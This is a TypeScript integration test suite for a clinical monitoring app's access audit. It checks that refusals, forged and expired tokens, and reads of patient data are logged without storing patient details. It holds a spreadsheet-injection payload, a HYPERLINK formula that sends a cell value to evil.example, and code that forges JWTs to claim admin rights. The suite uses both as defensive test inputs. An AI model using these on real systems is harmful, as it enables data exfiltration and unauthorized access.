import { createSign, generateKeyPairSync } from 'node:crypto';
import { and, desc, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { AccessLogEntry } from '../../contract/accessLog';
import type { CaseDetails } from '../../contract/cases';
import { API_PATHS } from '../../contract/paths';
import type { TimeLog } from '../../contract/timeLogs';
import { auditLog } from '../../server/db/schema';
import { callApi, type DemoUsername, demoTokens } from './support/apiClient';
import { caseCalls, caseOf } from './support/caseCalls';
import { createTestUser, expiredIdToken, fetchIdToken } from './support/identity';
import { describeEachDatabase, startTestServer, type TestServer } from './support/testServer';

const identity = inject('identity');

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")';

/**
 * The complete audit (DESIGN §6): every 401 and 403 with the token's subject where there is one, every
 * read of patient data with who, which case and which call (never the patient data or a search's text),
 * an audit log the database keeps append-only, and the admin's access log over it.
 */
describeEachDatabase('Access audit', (kind) => {
  let server: TestServer;
  let tokens: Record<DemoUsername, string>;
  let clientId: number;
  let caseId: number;

  const call = (method: string, path: string, as?: DemoUsername, body?: unknown) =>
    callApi(server, method, path, { token: as && tokens[as], body });
  const { intake, patch, assign } = caseCalls(call);

  /** The newest audit entry of a call, to read what the call just recorded. */
  async function lastEntry(action: string) {
    const [entry] = await server.database.db
      .select()
      .from(auditLog)
      .where(eq(auditLog.action, action))
      .orderBy(desc(auditLog.id))
      .limit(1);
    return entry;
  }

  const refusalsOf = (actor: string) =>
    server.database.db.$count(auditLog, and(eq(auditLog.actor, actor), eq(auditLog.outcome, 'denied')));

  beforeAll(async () => {
    server = await startTestServer(kind);
    tokens = await demoTokens();
    const client = await call('POST', API_PATHS.clients, 'admin', {
      name: 'Audit Hospital',
      code: 'AUD',
      timeZone: 'UTC',
    });
    clientId = (client.body.data as { id: number }).id;
    const created = await intake(clientId, {
      studyType: 'icu',
      monitoringLevel: 'unmonitored',
      patient: {
        firstName: 'Wilhelmina',
        lastName: 'Quarrington',
        mrn: 'MRN-771199',
        dateOfBirth: '1961-04-02',
      },
    });
    caseId = created.id;
  });
  afterAll(async () => {
    await server?.close();
  });

  describe('refusals', () => {
    it('audits a call without a token as anonymous', async () => {
      expect((await call('GET', API_PATHS.caseDetails(caseId))).status).toBe(401);
      expect(await lastEntry('GET /api/continuous-monitoring/cases/details/:id')).toMatchObject({
        actor: 'anonymous',
        outcome: 'denied',
        resource: 'cases',
        resourceId: String(caseId),
        details: { status: 401, token: 'none', reason: 'User needs to be authenticated to call this API.' },
      });
    });

    it("keeps a forged token's claimed name and groups apart as unverified, never as the actor", async () => {
      // Signed with a key of the caller's own: anyone can write any name, even a spreadsheet formula.
      const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
      const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
      const claims = {
        'cognito:username': FORMULA,
        'cognito:groups': ['admin'],
        exp: Date.now() / 1000 + 600,
      };
      const unsigned = `${encode({ alg: 'RS256', kid: 'CognitoLocal' })}.${encode(claims)}`;
      const forged = `${unsigned}.${createSign('RSA-SHA256').update(unsigned).sign(privateKey).toString('base64url')}`;
      expect((await callApi(server, 'GET', API_PATHS.users, { token: forged })).status).toBe(401);
      const stored = await lastEntry('GET /api/users');
      expect(stored).toMatchObject({
        actor: 'unverified token',
        outcome: 'denied',
        details: { status: 401, token: 'refused', unverifiedUser: FORMULA, tokenExpired: false },
      });
      expect(stored.details).not.toHaveProperty('roles');
      const log = await call('GET', `${API_PATHS.accessLog}?perPage=100`, 'admin');
      const shown = (log.body.data as AccessLogEntry[]).find((entry) => entry.id === stored.id);
      expect(shown?.actor).toBe(`unverified: ${FORMULA}`);
    });

    it("never lists a forged token's refusals under the user it names", async () => {
      const [header, payload, signature] = tokens.tech1.split('.');
      const claims = JSON.parse(Buffer.from(payload, 'base64url').toString());
      claims['cognito:groups'] = ['admin'];
      const forged = `${header}.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.${signature}`;
      expect((await callApi(server, 'GET', API_PATHS.users, { token: forged })).status).toBe(401);
      expect(await lastEntry('GET /api/users')).toMatchObject({
        actor: 'unverified token',
        details: { unverifiedUser: 'tech1', tokenExpired: false },
      });
      const log = await call('GET', `${API_PATHS.accessLog}?actor=tech1&outcome=denied&perPage=100`, 'admin');
      const entries = log.body.data as AccessLogEntry[];
      expect(entries.filter((entry) => entry.details.token === 'refused')).toEqual([]);
    });

    it('stores none of the query keys a read does not know', async () => {
      const read = await call(
        'GET',
        `${API_PATHS.caseDetails(caseId)}?${encodeURIComponent(FORMULA)}=1`,
        'admin',
      );
      expect(read.status).toBe(200);
      const stored = await lastEntry('GET /api/continuous-monitoring/cases/details/:id');
      expect(stored.details).toEqual({ query: {} });
    });

    it('audits an expired token with the name it claims kept as unverified, marked expired', async () => {
      const token = expiredIdToken(identity, { username: 'reader1', groups: ['reader'] });
      expect((await callApi(server, 'GET', API_PATHS.chrome, { token })).status).toBe(401);
      expect(await lastEntry('GET /api/chrome')).toMatchObject({
        actor: 'unverified token',
        details: { status: 401, reason: 'Invalid tokens.', tokenExpired: true, unverifiedUser: 'reader1' },
      });
    });

    it("audits a disabled user's call under their name", async () => {
      const user = await createTestUser(identity, { groups: ['reader'] });
      const token = await fetchIdToken(identity, user.username, user.password);
      expect((await callApi(server, 'GET', API_PATHS.chrome, { token })).status).toBe(200);
      expect(
        (await call('PUT', API_PATHS.userToggle(user.username), 'admin', { isEnabled: false })).status,
      ).toBe(200);
      expect((await callApi(server, 'GET', API_PATHS.chrome, { token })).status).toBe(401);
      expect(await lastEntry('GET /api/chrome')).toMatchObject({
        actor: user.username,
        details: { status: 401, reason: 'User is disabled.' },
      });
    });

    it('audits a call the role may not make, once', async () => {
      const before = await refusalsOf('billing1');
      expect((await call('POST', API_PATHS.clients, 'billing1', { name: 'X' })).status).toBe(403);
      expect(await refusalsOf('billing1')).toBe(before + 1);
      expect(await lastEntry('POST /api/continuous-monitoring/clients')).toMatchObject({
        actor: 'billing1',
        resource: 'clients',
        outcome: 'denied',
        details: {
          status: 403,
          roles: ['billing'],
          required: 'create',
          reason: 'Your role may not create clients.',
        },
      });
    });

    it("audits the handlers' own refusals: a reader's stage move, another user's details, another's time log", async () => {
      const details = caseOf(await call('GET', API_PATHS.caseDetails(caseId), 'admin'));
      const moved = await call('POST', API_PATHS.caseTransitions(caseId), 'reader1', {
        to: 'monitoring',
        version: details.version,
      });
      expect(moved.status).toBe(403);
      expect(await lastEntry('POST /api/continuous-monitoring/cases/:id/transitions')).toMatchObject({
        actor: 'reader1',
        resourceId: String(caseId),
        outcome: 'denied',
        details: { status: 403, reason: moved.body.error },
      });

      expect((await call('GET', API_PATHS.user('admin'), 'tech1')).status).toBe(403);
      expect(await lastEntry('GET /api/users/:username')).toMatchObject({
        actor: 'tech1',
        resourceId: 'admin',
        details: { status: 403, reason: 'You may only read your own details.' },
      });

      const start = new Date(Date.now() - 10 * 3_600_000).toISOString();
      await patch(details, { recordingStart: start }, 'admin');
      for (const username of ['tech1', 'newhire']) {
        expect((await assign(username, [caseId], 'admin')).status).toBe(200);
      }
      const logs = API_PATHS.caseRecords(caseId, 'time-logs');
      const created = await call('POST', logs, 'admin', {
        technologist: 'newhire',
        start,
        end: new Date(Date.parse(start) + 3_600_000).toISOString(),
      });
      expect(created.status, JSON.stringify(created.body)).toBe(201);
      const theirs = created.body.data as TimeLog;
      const revised = await call(
        'POST',
        API_PATHS.caseRecordRevisions(caseId, 'time-logs', theirs._id),
        'tech1',
        {
          baseRevision: 1,
          end: new Date(Date.parse(start) + 2 * 3_600_000).toISOString(),
        },
      );
      expect(revised.status).toBe(403);
      expect(
        await lastEntry(
          'POST /api/continuous-monitoring/cases/monitoring/:caseId/time-logs/:itemId/revisions',
        ),
      ).toMatchObject({ actor: 'tech1', resourceId: String(caseId), details: { status: 403 } });
    });
  });

  describe('reads of patient data', () => {
    it('records who read which case through which call, never the patient data', async () => {
      const reads = [
        [API_PATHS.caseDetails(caseId), 'GET /api/continuous-monitoring/cases/details/:id'],
        [
          API_PATHS.patientDetails(caseId),
          'GET /api/continuous-monitoring/cases/monitoring/:caseId/patient-details',
        ],
        [
          API_PATHS.patientDetailsRevisions(caseId),
          'GET /api/continuous-monitoring/cases/monitoring/:caseId/patient-details/revisions',
        ],
        [
          API_PATHS.caseRecords(caseId, 'events'),
          'GET /api/continuous-monitoring/cases/monitoring/:caseId/events',
        ],
        [
          API_PATHS.caseRecords(caseId, 'time-logs'),
          'GET /api/continuous-monitoring/cases/monitoring/:caseId/time-logs',
        ],
      ] as const;
      for (const [path, action] of reads) {
        const reply = await call('GET', path, 'reader1');
        expect(reply.status, path).toBe(200);
        expect(await lastEntry(action), path).toMatchObject({
          actor: 'reader1',
          resource: 'cases',
          resourceId: String(caseId),
          outcome: 'ok',
        });
      }
      const everything = JSON.stringify(await server.database.db.select().from(auditLog));
      expect(everything).not.toMatch(/Wilhelmina|Quarrington|MRN-771199|1961-04-02/);
    });

    it("records a search's length and the cases it showed, never its text", async () => {
      const reply = await call('GET', `${API_PATHS.caseStage('intake')}?q=Quarrington&perPage=50`, 'tech1');
      expect(reply.status).toBe(200);
      expect((reply.body.data as CaseDetails[]).map((row) => row.id)).toEqual([caseId]);
      const entry = await lastEntry('GET /api/continuous-monitoring/cases/intake');
      expect(entry).toMatchObject({
        actor: 'tech1',
        resourceId: null,
        details: { caseIds: [caseId], query: { q: { searched: true, length: 11 }, perPage: 50 } },
      });
      expect(JSON.stringify(entry)).not.toContain('Quarrington');

      const ofClient = await call(
        'GET',
        `${API_PATHS.clientRecords(clientId, 'cases')}?q=MRN-771199`,
        'billing1',
      );
      expect(ofClient.status).toBe(200);
      const clientEntry = await lastEntry('GET /api/continuous-monitoring/clients/:id/cases');
      expect(clientEntry).toMatchObject({ actor: 'billing1', details: { clientId, caseIds: [caseId] } });
      expect(JSON.stringify(clientEntry)).not.toContain('771199');
    });

    it('records the cases a statement and the home pages show, by id', async () => {
      // The refusals above left the case with a time log this month, and tech1 assigned to it.
      const month = new Date().toISOString().slice(0, 7);
      const reads = [
        [
          `${API_PATHS.billableHours(clientId)}?month=${month}`,
          'billing1',
          'GET /api/billing/continuous-monitoring/client/:clientId/billable-hours',
          [caseId],
        ],
        [
          API_PATHS.billingCycle(clientId, month),
          'billing1',
          'GET /api/billing/continuous-monitoring/client/:clientId/cycle/:cycleId',
          [caseId],
        ],
        [API_PATHS.home, 'tech1', 'GET /api/getHome', [caseId]],
        // The operations board shows this intake case among the turnaround clocks: its preliminary report's
        // clock runs from the recording start.
        [API_PATHS.home2, 'admin', 'GET /api/getHome2', [caseId]],
      ] as const;
      for (const [path, as, action, caseIds] of reads) {
        expect((await call('GET', path, as)).status, path).toBe(200);
        const entry = await lastEntry(action);
        expect(entry, path).toMatchObject({ actor: as, outcome: 'ok', details: { caseIds } });
        expect(JSON.stringify(entry)).not.toMatch(/Quarrington|771199/);
      }
    });

    it('records each case a home page shows once per user and hour, not on every refresh', async () => {
      const other = await intake(clientId, {
        patient: { firstName: 'Ottoline', lastName: 'Brisk', mrn: 'MRN-2' },
      });
      expect((await assign('tech1', [caseId, other.id], 'admin')).status).toBe(200);
      const homeReads = (actor: string) =>
        server.database.db
          .select()
          .from(auditLog)
          .where(and(eq(auditLog.actor, actor), eq(auditLog.action, 'GET /api/getHome')));
      for (let read = 0; read < 3; read++) {
        for (const as of ['tech1', 'admin'] as const) {
          expect((await call('GET', API_PATHS.home, as)).status).toBe(200);
        }
      }
      const shown = (await homeReads('tech1')).flatMap((entry) => entry.details.caseIds as number[]);
      // Each case once, whichever read first showed it (the earlier tests' reads are within the hour too).
      expect(shown.filter((id) => id === other.id)).toEqual([other.id]);
      expect(shown.filter((id) => id === caseId)).toEqual([caseId]);
      // The admin's home page shows no case of theirs: their first read is recorded, the refreshes are not.
      expect((await homeReads('admin')).map((entry) => entry.details.caseIds)).toEqual([[]]);
    });

    it('records nothing for a read that found nothing', async () => {
      const before = await server.database.db.$count(auditLog, eq(auditLog.outcome, 'ok'));
      expect((await call('GET', API_PATHS.caseDetails(999_999), 'reader1')).status).toBe(404);
      expect(await server.database.db.$count(auditLog, eq(auditLog.outcome, 'ok'))).toBe(before);
    });
  });

  it('refuses to change or remove an audit entry', async () => {
    const [entry] = await server.database.db.select().from(auditLog).limit(1);
    await expect(
      server.database.db.update(auditLog).set({ actor: 'someone-else' }).where(eq(auditLog.id, entry.id)),
    ).rejects.toThrow();
    await expect(server.database.db.delete(auditLog).where(eq(auditLog.id, entry.id))).rejects.toThrow();
    const [kept] = await server.database.db.select().from(auditLog).where(eq(auditLog.id, entry.id));
    expect(kept).toEqual(entry);
  });

  describe('the access log', () => {
    const log = (query: string, as: DemoUsername = 'admin') =>
      call('GET', `${API_PATHS.accessLog}?${query}`, as);
    type Row = { actor: string; action: string; resourceId: string | null; outcome: string; at: string };

    it('is for admins only', async () => {
      for (const as of ['tech1', 'reader1', 'billing1'] as const)
        expect((await log('', as)).status).toBe(403);
      expect((await call('GET', API_PATHS.accessLog)).status).toBe(401);
    });

    it('filters by user, case, outcome and date, a page at a time, newest first', async () => {
      const byReader = await log('actor=reader1&perPage=100');
      expect(byReader.status).toBe(200);
      const rows = byReader.body.data as Row[];
      expect(rows.length).toBeGreaterThan(3);
      expect(rows.every((row) => row.actor === 'reader1')).toBe(true);
      expect(rows.map((row) => row.at)).toEqual([...rows.map((row) => row.at)].sort().reverse());

      const ofCase = (await log(`caseId=${caseId}&perPage=100`)).body.data as (Row & { details: object })[];
      // The case's own entries (writes, reads, refusals) and the lists that showed it.
      expect(ofCase.some((row) => row.action === 'case.intake')).toBe(true);
      expect(ofCase.some((row) => row.action === 'GET /api/continuous-monitoring/cases/intake')).toBe(true);
      expect(
        ofCase.every(
          (row) => row.resourceId === String(caseId) || JSON.stringify(row.details).includes(String(caseId)),
        ),
      ).toBe(true);

      const denied = (await log('outcome=denied&perPage=100')).body.data as Row[];
      expect(denied.length).toBeGreaterThan(0);
      expect(denied.every((row) => row.outcome === 'denied')).toBe(true);

      const pageOne = await log('perPage=2&page=1');
      const pageTwo = await log('perPage=2&page=2');
      expect(pageOne.body.total).toBe(pageTwo.body.total);
      expect((pageOne.body.total as number) > 4).toBe(true);
      const ids = [...(pageOne.body.data as { id: number }[]), ...(pageTwo.body.data as { id: number }[])];
      expect(new Set(ids.map((row) => row.id)).size).toBe(4);

      const future = await log('from=2999-01-01');
      expect(future.body).toMatchObject({ data: [], total: 0 });
      const today = new Date().toISOString().slice(0, 10);
      expect(((await log(`from=${today}&to=${today}`)).body.total as number) > 0).toBe(true);
      const past = await log('to=2000-01-01');
      expect(past.body.total).toBe(0);
    });

    it('filters by case number, and by patient MRN or name, auditing the lookup without its text', async () => {
      const { caseNumber } = caseOf(await call('GET', API_PATHS.caseDetails(caseId), 'admin'));
      const idsOf = (reply: { body: { data?: unknown } }) =>
        (reply.body.data as { id: number }[]).map((row) => row.id);

      const byNumber = await log(`caseNumber=${caseNumber.toLowerCase()}&perPage=100`);
      expect(byNumber.status, JSON.stringify(byNumber.body)).toBe(200);
      const byId = await log(`caseId=${caseId}&perPage=100`);
      expect(idsOf(byNumber)).toEqual(idsOf(byId));
      expect(idsOf(byNumber).length).toBeGreaterThan(3);
      expect(byNumber.body.data).toContainEqual(
        expect.objectContaining({ action: 'case.intake', caseNumber, summary: `took in case ${caseNumber}` }),
      );
      expect((await log('caseNumber=AUD-1999-0001')).body).toMatchObject({ data: [], total: 0 });

      const byMrn = await log('patient=MRN-771199&perPage=100');
      expect(byMrn.status).toBe(200);
      // The lookup is itself a read of the patient's cases, recorded before the page is read.
      const lookup = await lastEntry('GET /api/access-log');
      expect(lookup).toMatchObject({
        actor: 'admin',
        resource: 'cases',
        outcome: 'ok',
        details: { caseIds: [caseId], query: { patient: { searched: true, length: 10 }, perPage: 100 } },
      });
      expect(idsOf(byMrn)).toEqual([lookup.id, ...idsOf(byId)]);
      expect((byMrn.body.data as Row[])[0]).toMatchObject({
        summary: `looked up a patient's cases: ${caseNumber}`,
      });

      const byName = await log('patient=quarrington&perPage=100');
      expect(idsOf(byName)).toEqual([(await lastEntry('GET /api/access-log')).id, ...idsOf(byMrn)]);
      const both = await log(`patient=Wilhelmina%20Quarrington&caseNumber=${caseNumber}&perPage=100`);
      expect(idsOf(both).slice(1)).toEqual(idsOf(byName));
      expect((await log('patient=Nobody%20Atall')).body.total).toBe(0);
      expect(await lastEntry('GET /api/access-log')).toMatchObject({ details: { caseIds: [] } });

      const everything = JSON.stringify(await server.database.db.select().from(auditLog));
      expect(everything).not.toMatch(/Wilhelmina|Quarrington|771199|Nobody/i);
    });

    it('says what each entry records in words, with case numbers and client names', async () => {
      const { caseNumber } = caseOf(await call('GET', API_PATHS.caseDetails(caseId), 'admin'));
      const rows = (await log(`caseId=${caseId}&perPage=100`)).body.data as (Row & { summary: string })[];
      const summaryOf = (action: string, actor: string) =>
        rows.find((row) => row.action === action && row.actor === actor)?.summary;
      expect(summaryOf('GET /api/continuous-monitoring/cases/details/:id', 'reader1')).toBe(
        `opened case ${caseNumber}`,
      );
      expect(summaryOf('GET /api/continuous-monitoring/cases/monitoring/:caseId/time-logs', 'reader1')).toBe(
        `read the time logs of case ${caseNumber}`,
      );
      expect(summaryOf('GET /api/continuous-monitoring/cases/intake', 'tech1')).toBe(
        `listed cases in intake: ${caseNumber}`,
      );
      expect(
        summaryOf('GET /api/billing/continuous-monitoring/client/:clientId/cycle/:cycleId', 'billing1'),
      ).toBe(`read the billing statement of Audit Hospital: ${caseNumber}`);
      expect(summaryOf('GET /api/continuous-monitoring/clients/:id/cases', 'billing1')).toBe(
        `listed the cases of Audit Hospital: ${caseNumber}`,
      );
      expect(summaryOf('POST /api/continuous-monitoring/cases/:id/transitions', 'reader1')).toBe(
        `tried to write to /continuous-monitoring/cases/:id/transitions (case ${caseNumber})`,
      );
      expect(summaryOf('case.technologists', 'admin')).toMatch(
        new RegExp(`^assigned (tech1|newhire) to case ${caseNumber}$`),
      );
    });

    it('names every bad filter', async () => {
      const lookups = () =>
        server.database.db.$count(
          auditLog,
          and(eq(auditLog.actor, 'admin'), eq(auditLog.action, 'GET /api/access-log')),
        );
      const before = await lookups();
      const reply = await log('caseId=abc&from=yesterday&outcome=maybe&patient=Quarrington');
      expect(reply.status).toBe(400);
      expect((reply.body.fields ?? []).map((field) => field.field).sort()).toEqual([
        'caseId',
        'from',
        'outcome',
      ]);
      expect(await lookups()).toBe(before);
    });
  });
});
